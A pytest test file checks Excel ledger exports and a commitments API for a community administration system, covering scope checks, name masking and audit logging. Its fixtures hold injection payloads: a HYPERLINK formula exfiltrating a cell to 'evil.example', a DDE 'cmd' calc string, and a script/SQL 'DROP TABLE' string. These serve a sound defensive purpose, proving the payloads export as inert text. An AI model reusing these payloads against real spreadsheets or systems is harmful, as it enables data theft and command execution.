"""The four ledgers through the API and the CLI, and commitments: each workbook opened with openpyxl has its headers
and exactly the rows SQL finds for the place and period; names masked; hostile text a string, never a formula;
roles, places and periods refused as they must be; every download and write audited."""

import io
import re
from collections.abc import Iterator
from datetime import date, datetime, timedelta

import openpyxl
import pytest
from fastapi.testclient import TestClient
from sqlalchemy import text
from typer.testing import CliRunner

from api.accounts.roles import parse_scope
from api.accounts.users import allow_unmasked, put_user
from api.cli import app as cli_app
from api.ledgers import CHINA, LEDGERS
from api.main import create_app
from api.privacy import mask_name
from api.settings import Settings
from tests.conftest import sample_loaded
from tests.signing import PASSWORD

KEY = "a signing key for the ledger tests, 0123456789abcdef"
FORMULA = '=HYPERLINK("http://evil.example/steal?d="&A1,"点我")'
SCRIPT = "<script>window.__pwned=1</script>{{7*7}}'; DROP TABLE requests; --"
YEAR = date.today().year - 1  # the sample's commitments cover last year whole
FROM, TO = date(YEAR, 1, 1), date(YEAR, 12, 31)
START, END = datetime(YEAR, 1, 1, tzinfo=CHINA), datetime(YEAR + 1, 1, 1, tzinfo=CHINA)


def _at(month: int, day: int, hour: int = 10) -> datetime:
    return datetime(YEAR, month, day, hour, tzinfo=CHINA)


INSERT_REQUEST = """
INSERT INTO requests (service_code, grid_id, building_id, household_id, location, description, source, state,
                      requested_at, deadline, completed_at, closed_at, rating, assigned_user_id, assigned_unit)
SELECT :service, h.grid_id, h.building_id, h.id, h.geom, :description, 'test', :state, :requested_at,
       CAST(:requested_at AS timestamptz) + interval '5 days', :completed_at, :closed_at, :rating, :assigned, :unit
FROM households h WHERE h.id = :household
RETURNING id
"""
INSERT_VISIT = """
INSERT INTO visits (client_id, household_id, grid_id, role, kind, visited_at, notes, payload_sha256)
SELECT gen_random_uuid(), h.id, h.grid_id, :role, :kind, :at, :notes, 'test' FROM households h WHERE h.id = :household
"""


def _request(conn, household, *, state="submitted", at=None, completed=None, rating=None, assigned=None, **kw):
    params = {
        "service": kw.get("service", "livelihood"),
        "description": kw.get("description", "楼道灯坏了"),
        "state": state,
        "requested_at": at or _at(3, 1),
        "completed_at": completed,
        "closed_at": completed if state == "closed" else None,
        "rating": rating,
        "assigned": assigned,
        "unit": kw.get("unit"),
        "household": household,
    }
    return conn.scalar(text(INSERT_REQUEST), params)


@pytest.fixture(scope="module")
def world(engine, database_url) -> Iterator[dict]:
    with sample_loaded(engine):
        with engine.begin() as conn:
            street = conn.scalar(text("SELECT code FROM streets ORDER BY id LIMIT 1"))
            (a, a_code), (b, b_code) = conn.execute(
                text(
                    "SELECT c.id, st.code || c.code FROM communities c JOIN streets st ON st.id = c.street_id "
                    "WHERE EXISTS (SELECT 1 FROM grids g JOIN households h ON h.grid_id = g.id "
                    "WHERE g.community_id = c.id AND h.is_party_member AND 'hardship' = ANY (h.tags)) "
                    "ORDER BY c.id LIMIT 2"
                )
            ).all()
            g1, g1_code = conn.execute(
                text(
                    "SELECT g.id, g.code FROM grids g WHERE g.community_id = :c AND EXISTS (SELECT 1 FROM "
                    "center_households ch JOIN households h ON h.id = ch.household_id WHERE h.grid_id = g.id "
                    "AND h.is_party_member) ORDER BY g.id LIMIT 1"
                ),
                {"c": a},
            ).one()
            center, center_household = conn.execute(
                text(
                    "SELECT ch.id, h.id FROM center_households ch JOIN households h ON h.id = ch.household_id "
                    "WHERE h.grid_id = :g AND h.is_party_member ORDER BY ch.id LIMIT 1"
                ),
                {"g": g1},
            ).one()

            def households(community: int, condition: str) -> list[int]:
                sql = (
                    "SELECT h.id FROM households h JOIN grids g ON g.id = h.grid_id "
                    f"WHERE g.community_id = :c AND {condition} ORDER BY h.id"
                )
                return list(conn.scalars(text(sql), {"c": community}))

            a_plain = households(a, "NOT h.is_party_member")
            a_party = households(a, "h.is_party_member AND h.id <> :x".replace(":x", str(center_household)))
            a_hardship = households(a, "'hardship' = ANY (h.tags)")
            b_party = households(b, "h.is_party_member")
        accounts = {
            "admin": ("admin", []),
            "leader": ("street_leader", [f"street:{street}"]),
            "secretary": ("community_secretary", [f"community:{a_code}"]),
            "unmasker": ("community_secretary", [f"community:{a_code}"]),
            "worker": ("grid_worker", [f"grid:{g1_code}"]),
            "party": ("party_member", [f"grid:{g1_code}"]),
            "planner": ("planner", [f"street:{street}"]),
        }
        ids = {}
        for login, (role, scopes) in accounts.items():
            ids[login] = put_user(
                engine,
                login,
                role=role,
                scopes=[parse_scope(s) for s in scopes],
                password=PASSWORD,
                center_household_id=center if role == "party_member" else None,
            )
        allow_unmasked(engine, "unmasker")
        with engine.begin() as conn:
            party_id = conn.scalar(text("SELECT id FROM users WHERE login = 'party'"))
            for table in ("visits", "hazards", "requests"):  # this test's field work only (a sample may have its own)
                in_a = "grid_id IN (SELECT id FROM grids WHERE community_id = :a)"
                conn.execute(text(f"DELETE FROM {table} WHERE {in_a}"), {"a": a})
            made = {
                "formula": _request(conn, a_plain[0], description=FORMULA, at=_at(2, 3)),
                "script": _request(conn, a_plain[1], description=SCRIPT, at=_at(2, 4)),
                "by_party": _request(
                    conn, a_plain[2], state="closed", at=_at(4, 1), completed=_at(4, 3), rating=5, assigned=party_id
                ),
                "by_unit": _request(
                    conn, a_plain[3], state="completed", at=_at(5, 1), completed=_at(5, 9), unit="=区供电所"
                ),
                "late_party": _request(  # received last year, completed this year: not in last year's fulfilment
                    conn,
                    a_plain[4],
                    state="completed",
                    at=_at(12, 30),
                    completed=END + timedelta(days=2),
                    assigned=party_id,
                ),  # fmt: skip
                "before": _request(conn, a_plain[5], at=START - timedelta(hours=1)),
                "other_place": _request(conn, b_party[0], description=SCRIPT, at=_at(3, 1)),
                "hardship_help": _request(
                    conn,
                    a_hardship[0],
                    state="closed",
                    at=_at(6, 1),
                    completed=_at(6, 2),
                    rating=4,
                    service="special_groups",
                ),  # fmt: skip
            }
            for kind, day, notes in (("help", 3, "送米面油"), ("routine", 4, None), ("care", 5, "=cmd|' /C calc'!A0")):
                conn.execute(
                    text(INSERT_VISIT),
                    {
                        "household": a_hardship[0],
                        "role": "grid_worker",
                        "kind": kind,
                        "at": _at(7, day),
                        "notes": notes,
                    },  # fmt: skip
                )
        settings = Settings(database_url=database_url, tiles="none", secret_key=KEY)
        with TestClient(create_app(settings)) as client:
            headers = {}
            for login in accounts:
                token = client.post("/auth/token", data={"username": login, "password": PASSWORD}).json()
                headers[login] = {"Authorization": f"Bearer {token['access_token']}"}
            yield {
                "client": client,
                "headers": headers,
                "engine": engine,
                "a": a,
                "b": b,
                "codes": {"a": a_code, "b": b_code, "street": street, "g1": g1_code},
                "made": made,
                "party_id": party_id,
                "center_household": center_household,
                "a_party": a_party,
                "a_plain": a_plain,
                "b_party": b_party,
            }


def _get(world, who, path, **params):
    return world["client"].get(path, params=params, headers=world["headers"][who])


def _ledger(world, name, who="secretary", **params):
    params = {"community_code": world["codes"]["a"], "from": FROM.isoformat(), "to": TO.isoformat()} | params
    return _get(world, who, f"/ledgers/{name}.xlsx", **{k: v for k, v in params.items() if v is not None})


def _sheet(response):
    assert response.status_code == 200, response.text
    assert response.headers["content-type"].startswith("application/vnd.openxmlformats")
    ws = openpyxl.load_workbook(io.BytesIO(response.content)).active
    return ws, [list(row) for row in ws.iter_rows(min_row=3, values_only=True)]


def _scalar(world, sql, **params):
    with world["engine"].connect() as conn:
        return conn.scalar(text(sql), {"a": world["a"], "start": START, "end": END, **params})


A_GRIDS = "(SELECT id FROM grids WHERE community_id = :a)"
EXPECTED_ROWS = {
    "commitments": f"SELECT count(*) FROM commitments WHERE grid_id IN {A_GRIDS} AND made_at >= :start "
    "AND made_at < :end",
    "fulfilment": f"""SELECT (SELECT count(*) FROM commitments WHERE grid_id IN {A_GRIDS} AND state = 'fulfilled'
        AND fulfilled_at >= :start AND fulfilled_at < :end)
      + (SELECT count(*) FROM requests q JOIN users u ON u.id = q.assigned_user_id WHERE u.role = 'party_member'
        AND q.grid_id IN {A_GRIDS} AND q.state IN ('completed', 'closed') AND q.completed_at >= :start
        AND q.completed_at < :end)""",
    "hardship": f"SELECT count(*) FROM households WHERE grid_id IN {A_GRIDS} AND 'hardship' = ANY (tags)",
    "requests": f"SELECT count(*) FROM requests WHERE grid_id IN {A_GRIDS} AND requested_at >= :start "
    "AND requested_at < :end",
}


@pytest.mark.parametrize("name", list(LEDGERS))
def test_each_ledger_has_its_headers_and_the_rows_sql_finds(world, name):
    ws, rows = _sheet(_ledger(world, name))
    assert [c.value for c in ws[2]] == [c.header for c in LEDGERS[name].columns]
    assert ws.freeze_panes == "A3"
    title = ws["A1"].value
    assert title.endswith(f"（{FROM.isoformat()} 至 {TO.isoformat()}）") and LEDGERS[name].title in title
    expected = _scalar(world, EXPECTED_ROWS[name])
    assert len(rows) == expected and expected > 0


def test_the_requests_ledger_holds_the_place_and_period_only_with_hostile_text_as_text(world):
    ws, rows = _sheet(_ledger(world, "requests"))
    made = world["made"]
    ids = [row[0] for row in rows]
    assert made["formula"] in ids and made["script"] in ids and made["late_party"] in ids
    assert made["before"] not in ids and made["other_place"] not in ids
    by_id = {row[0]: (i + 3, row) for i, row in enumerate(rows)}
    line, row = by_id[made["formula"]]
    cell = ws.cell(row=line, column=5)
    assert cell.data_type == "s" and cell.value == "'" + FORMULA  # shown, never evaluated
    assert by_id[made["script"]][1][4] == SCRIPT
    assert by_id[made["by_unit"]][1][5] == "'=区供电所" and by_id[made["by_unit"]][1][6] == "已办结"
    received = by_id[made["by_party"]][1]
    assert received[1] == datetime(YEAR, 4, 1, 10) and received[7] == datetime(YEAR, 4, 3, 10) and received[8] == 5
    assert received[5].startswith("党员 ") and received[2] == "民生服务"


def test_fulfilment_holds_requests_completed_by_party_members_in_the_period(world):
    _, rows = _sheet(_ledger(world, "fulfilment"))
    requests = [row for row in rows if row[1] == "为民办事"]
    assert len(requests) == 1 and requests[0][5] == datetime(YEAR, 4, 1, 10) and requests[0][8] == 5
    assert all(row[6] is not None and START.replace(tzinfo=None) <= row[6] < END.replace(tzinfo=None) for row in rows)


def test_hardship_counts_visits_and_help_and_shows_the_latest(world):
    _, rows = _sheet(_ledger(world, "hardship"))
    helped = [row for row in rows if row[5]]
    assert len(helped) == 1
    _, address, grid, size, tags, visits, help_count, last_at, last_what = helped[0]
    assert "低保" in tags and visits == 3 and help_count == 3  # help and care visits, and the request completed
    assert last_at == datetime(YEAR, 7, 5, 10) and last_what == "关爱走访：=cmd|' /C calc'!A0"
    assert address and grid and size >= 1


def test_names_are_masked_and_no_residents_name_is_in_any_ledger(world):
    with world["engine"].connect() as conn:
        names = set(conn.scalars(text(f"SELECT r.name FROM residents r JOIN households h ON h.id = r.household_id "
                                      f"WHERE h.grid_id IN {A_GRIDS}"), {"a": world["a"]}))  # fmt: skip
    for name in LEDGERS:
        _, rows = _sheet(_ledger(world, name))
        cells = {v for row in rows for v in row if isinstance(v, str)}
        assert not cells & names, name
    _, rows = _sheet(_ledger(world, "commitments"))
    members = [row[1] for row in rows]
    assert all(re.fullmatch(r".\*+.?", m) for m in members)
    assert set(members) <= {mask_name(n) for n in names}


def test_unmasked_names_need_the_permission_and_a_reason_and_are_audited(world):
    assert _ledger(world, "commitments", unmasked="true", reason="年度考核").status_code == 403
    assert _ledger(world, "commitments", "unmasker", unmasked="true").status_code == 400
    _, rows = _sheet(_ledger(world, "commitments", "unmasker", unmasked="true", reason="年度考核"))
    assert not any("*" in row[1] for row in rows)
    with world["engine"].connect() as conn:
        entry = conn.execute(
            text("SELECT action, reason, login FROM audit_log WHERE login = 'unmasker' ORDER BY id DESC LIMIT 1")
        ).one()
    assert entry == ("read_unmasked", "年度考核", "unmasker")


def test_a_download_is_audited_with_the_rows_it_holds(world):
    _, rows = _sheet(_ledger(world, "requests", "leader"))
    with world["engine"].connect() as conn:
        entry = conn.execute(
            text("SELECT action, object_table, object_ids, detail FROM audit_log WHERE login = 'leader' "
                 "ORDER BY id DESC LIMIT 1")
        ).one()  # fmt: skip
    assert entry.action == "export" and entry.object_table == "requests"
    assert sorted(entry.object_ids) == sorted(row[0] for row in rows)
    assert entry.detail["place"] == f"community:{world['codes']['a']}" and entry.detail["rows"] == len(rows)


@pytest.mark.parametrize("who", ["worker", "party", "planner"])
def test_roles_below_community_secretary_may_not_download(world, who):
    response = _ledger(world, "requests", who)
    assert response.status_code == 403 and "楼道" not in response.text


def test_a_place_outside_reads_as_one_not_stored(world):
    codes = world["codes"]
    refused = _ledger(world, "requests", community_code=codes["b"])
    missing = _ledger(world, "requests", community_code="999999999999")
    assert refused.status_code == missing.status_code == 404
    assert refused.json()["detail"].replace(codes["b"], "N") == missing.json()["detail"].replace("999999999999", "N")
    # a street of which the secretary has one community is not theirs; the leader's street is
    street = {"community_code": None, "street_code": codes["street"]}
    assert _ledger(world, "requests", **street).status_code == 404
    _, rows = _sheet(_ledger(world, "requests", "leader", **street))
    assert world["made"]["other_place"] in [row[0] for row in rows]
    _, rows = _sheet(_ledger(world, "requests", grid_code=codes["g1"], community_code=None))
    assert rows is not None


@pytest.mark.parametrize(
    ("name", "params", "status", "words"),
    [
        ("requests", {"from": "2025-13-01"}, 422, "from"),
        ("requests", {"to": "yesterday"}, 422, "to"),
        ("requests", {"from": "2026-02-01", "to": "2026-01-31"}, 422, "before from"),
        ("requests", {"from": "2024-01-01", "to": "2025-06-30"}, 422, "at most 366"),
        ("visits", {}, 422, "commitments"),
        ("requests", {"community_code": None}, 400, "exactly one"),
        ("requests", {"street_code": "110105001"}, 400, "exactly one"),
        ("requests", {"community_code": "12345"}, 422, "community_code"),
    ],
)
def test_bad_names_dates_and_places_are_refused_naming_the_problem(world, name, params, status, words):
    response = _ledger(world, name, **params)
    assert response.status_code == status, response.text
    assert words in response.json()["detail"]


def test_the_cli_writes_the_same_ledger_and_is_audited(world, database_url, monkeypatch, tmp_path):
    monkeypatch.setenv("GRIDMAP_DATABASE_URL", database_url)
    out = tmp_path / "requests.xlsx"
    args = ["ledger", "requests", "--community", world["codes"]["a"], "--from", FROM.isoformat(), "--to"]
    result = CliRunner().invoke(cli_app, [*args, TO.isoformat(), "-o", str(out)])
    assert result.exit_code == 0, result.output
    with world["engine"].connect() as conn:
        login = conn.scalar(text("SELECT login FROM audit_log WHERE action = 'export' ORDER BY id DESC LIMIT 1"))
    assert login == "(command line)"
    _, via_api = _sheet(_ledger(world, "requests"))
    ws = openpyxl.load_workbook(out).active
    assert [list(r) for r in ws.iter_rows(min_row=3, values_only=True)] == via_api
    assert f"({len(via_api)} rows)" in result.output and "楼道" not in result.output
    bad = CliRunner().invoke(cli_app, [*args, "2000-01-01", "-o", str(out)])
    assert bad.exit_code == 2 and "before from" in bad.output
    unknown = CliRunner().invoke(cli_app, ["ledger", "visits", "--grid", "1", "--from", "x", "--to", "y", "-o", "f"])
    assert unknown.exit_code == 2 and "unknown ledger" in unknown.output


# Commitments: kept by secretaries and up for party-member households of their places; a party member's own.


def _post(world, who, body):
    return world["client"].post("/commitments", json=body, headers=world["headers"][who])


def _patch(world, who, commitment_id, body):
    return world["client"].patch(f"/commitments/{commitment_id}", json=body, headers=world["headers"][who])


def test_a_secretary_records_a_commitment_and_its_fulfilment(world):
    household = world["a_party"][0]
    made = _post(world, "secretary", {"household_id": household, "content": SCRIPT, "promised_by": "2099-12-31"})
    assert made.status_code == 201, made.text
    body = made.json()
    assert body["content"] == SCRIPT and body["state"] == "made" and body["household_id"] == household
    assert body["member_name"] is None or "*" in body["member_name"]
    done = _patch(world, "secretary", body["id"], {"fulfilment_note": FORMULA})
    assert done.status_code == 200 and done.json()["state"] == "fulfilled" and done.json()["fulfilment_note"] == FORMULA
    with world["engine"].connect() as conn:
        actions = conn.execute(
            text("SELECT action FROM audit_log WHERE object_table = 'commitments' AND :id = ANY (object_ids) "
                 "ORDER BY id"),
            {"id": body["id"]},
        ).scalars().all()  # fmt: skip
    assert actions == ["create", "update"]
    listed = _get(world, "secretary", "/commitments", community_code=world["codes"]["a"], limit=500, state="fulfilled")
    assert listed.status_code == 200


def test_whose_commitment_it_is_is_checked(world):
    plain = _post(world, "secretary", {"household_id": world["a_plain"][0], "content": "x"})
    assert plain.status_code == 400 and "not a party member's household" in plain.json()["detail"]
    outside = _post(world, "secretary", {"household_id": world["b_party"][0], "content": "x"})
    assert outside.status_code == 404
    nobody = _post(world, "secretary", {"content": "x"})
    assert nobody.status_code == 400
    late = _post(world, "secretary", {"household_id": world["a_party"][0], "content": "x", "promised_by": "2001-01-01"})
    assert late.status_code == 422 and "promised_by" in late.text
    party = world["a_party"][0]
    old = _post(world, "secretary", {"household_id": party, "content": "x", "made_at": "1999-12-01T00:00:00Z"})
    assert old.status_code == 422 and "before 2000" in old.text
    for who in ("worker", "planner"):
        assert _post(world, who, {"household_id": world["a_party"][0], "content": "x"}).status_code == 403


def test_a_party_member_records_and_fulfils_their_own_only(world):
    own = _post(world, "party", {"content": "每月走访联系户"})
    assert own.status_code == 201, own.text
    assert own.json()["user_id"] == world["party_id"] and own.json()["household_id"] == world["center_household"]
    assert _post(world, "party", {"household_id": world["a_party"][0], "content": "x"}).status_code == 403
    listed = _get(world, "party", "/commitments").json()["commitments"]
    assert [c["id"] for c in listed] == [own.json()["id"]]
    other = _post(world, "secretary", {"household_id": world["a_party"][0], "content": "y"}).json()
    assert _patch(world, "party", other["id"], {"state": "fulfilled"}).status_code == 404
    assert _patch(world, "party", own.json()["id"], {"state": "cancelled"}).status_code == 200
    refused = _patch(world, "party", own.json()["id"], {"state": "fulfilled"})
    assert refused.status_code == 409 and refused.json()["code"] == "invalid_transition"


def test_a_fulfilment_before_the_commitment_or_in_the_future_is_refused(world):
    made = _post(world, "secretary", {"household_id": world["a_party"][0], "content": "z"}).json()
    early = _patch(world, "secretary", made["id"], {"fulfilled_at": "2000-01-01T00:00:00+08:00"})
    future = _patch(world, "secretary", made["id"], {"fulfilled_at": "2999-01-01T00:00:00+08:00"})
    assert early.status_code == 400 and "before the commitment" in early.json()["detail"]
    # a year past 2200 is refused as no plausible time at all (api.params.Instant), naming the field
    assert future.status_code == 422 and "fulfilled_at" in future.json()["detail"]
    soon = _patch(world, "secretary", made["id"], {"fulfilled_at": "2099-01-01T00:00:00+08:00"})
    assert soon.status_code == 400 and "future" in soon.json()["detail"]
    assert _patch(world, "leader", made["id"], {}).json()["state"] == "fulfilled"


def test_the_table_refuses_a_commitment_of_no_party_member_and_outlives_a_household(world):
    from sqlalchemy.exc import IntegrityError

    engine = world["engine"]
    insert = "INSERT INTO commitments (household_id, user_id, year, content, promised_by) VALUES (:h, :u, 2026, 'x', "
    for household, user, constraint in (
        (world["a_plain"][0], None, "commitments_party_household"),
        (None, None, "commitments_member"),
        (None, world["party_id"] + 10_000, "commitments_party_user"),
    ):
        with pytest.raises(IntegrityError) as refused, engine.begin() as conn:
            conn.execute(text(insert + "'2026-12-31')"), {"h": household, "u": user})
        assert refused.value.orig.diag.constraint_name == constraint  # type: ignore[union-attr]
    with engine.connect() as conn, conn.begin() as tx:
        household = world["b_party"][0]
        made = conn.scalar(text(insert + "'2026-12-31') RETURNING id"), {"h": household, "u": None})
        row = conn.execute(text("SELECT grid_id, community_id FROM commitments WHERE id = :id"), {"id": made}).one()
        assert row.community_id == world["b"] and row.grid_id is not None  # from the household
        conn.execute(text("DELETE FROM households WHERE id = :h"), {"h": household})
        assert conn.scalar(text("SELECT household_id FROM commitments WHERE id = :id"), {"id": made}) is None
        tx.rollback()


def test_row_level_security_keeps_a_secretary_to_their_places(world, database_url):
    from api.storage import database, transaction, user_scope

    app_engine = database.make_engine(database.app_database_url(database_url))
    try:
        with world["engine"].connect() as conn:
            secretary = conn.scalar(text("SELECT id FROM users WHERE login = 'secretary'"))
            in_b = conn.scalar(text("SELECT count(*) FROM commitments WHERE community_id = :b"), {"b": world["b"]})
        with transaction(app_engine, scope=user_scope(secretary)) as conn:
            seen = conn.execute(text("SELECT community_id, count(*) FROM commitments GROUP BY 1")).all()
        assert in_b > 0 and dict(seen).keys() == {world["a"]}
    finally:
        app_engine.dispose()
